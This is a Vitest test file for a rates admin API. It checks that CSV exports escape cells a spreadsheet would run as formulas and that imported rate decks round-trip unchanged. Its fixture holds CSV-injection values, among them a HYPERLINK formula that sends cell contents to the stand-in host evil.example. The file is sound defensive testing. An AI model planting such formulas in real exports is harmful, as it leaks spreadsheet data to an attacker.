import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { engines } from "../../test/engines";
import { buildUser, type TestUser } from "../../test/factories";
import { startTestServer, type TestServer } from "../../test/test-server";

/** What a spreadsheet runs as a formula when a cell starts with it (OWASP CSV injection). */
const RUNS_AS_FORMULA = /^[=+\-@\t\r]/;
/** A plus and at most 15 digits, the first not 0 (E.164): a number to a spreadsheet, with no formula in it. */
const E164 = /^\+[1-9][0-9]{0,14}$/;

const HOSTILE_DECK = [
  "iso,country,line_type,usd_per_min,destination_prefixes",
  'AD,"=HYPERLINK(""http://evil.example/?""&A1,""Andorra"")",Standard,0.04700,376',
  "AD,@SUM(1+1),-Mobile,0.29400,3763 3764",
  "AE,+United Arab Emirates,Standard,0.25730,971",
].join("\r\n");

describe.each(engines)("CSV exports on %s", (engine) => {
  let server: TestServer;
  let admin: TestUser;
  beforeAll(async () => {
    server = await startTestServer(engine);
    admin = await buildUser(server, { role: "admin" });
  });
  afterAll(() => server.close());

  const asAdmin = (method: "GET" | "POST", url: string, payload?: object) =>
    server.app.inject({ method, url, headers: { cookie: admin.cookie }, ...(payload ? { payload } : {}) });
  const cellsOf = (csv: string) => parse(csv, { relax_column_count: true }).flat();

  it("writes carrier names that a spreadsheet would run as text, and the export imports back unchanged", async () => {
    const imported = await asAdmin("POST", "/api/admin/rates/import", { csv: HOSTILE_DECK });
    expect(imported.statusCode, imported.body).toBe(200);

    const deck = (await asAdmin("GET", "/api/admin/rates/export?kind=deck")).body;
    expect(cellsOf(deck).filter((cell) => RUNS_AS_FORMULA.test(cell))).toEqual([]);
    expect(deck).toContain("AD,'@SUM(1+1),'-Mobile,0.29400,3763 3764\r\n");

    // What was exported reads back as the deck that was imported: nothing added, removed or repriced.
    const again = (await asAdmin("POST", "/api/admin/rates/import/preview", { csv: deck })).json();
    expect(again).toMatchObject({ rejected: [], deckRows: 3, added: [], removed: [], repriced: [], canCommit: true });
    expect((await asAdmin("GET", "/api/admin/rates/export?kind=deck")).body).toBe(deck);
  });

  it("writes dial codes (+376) in the country rates as the numbers they are, and nothing that runs", async () => {
    const countries = (await asAdmin("GET", "/api/admin/rates/export")).body;
    expect(cellsOf(countries).filter((cell) => RUNS_AS_FORMULA.test(cell) && !E164.test(cell))).toEqual([]);
    expect(countries.split("\r\n").find((line) => line.startsWith("AD,"))).toMatch(/^AD,Andorra,\+376,/);
  });
});
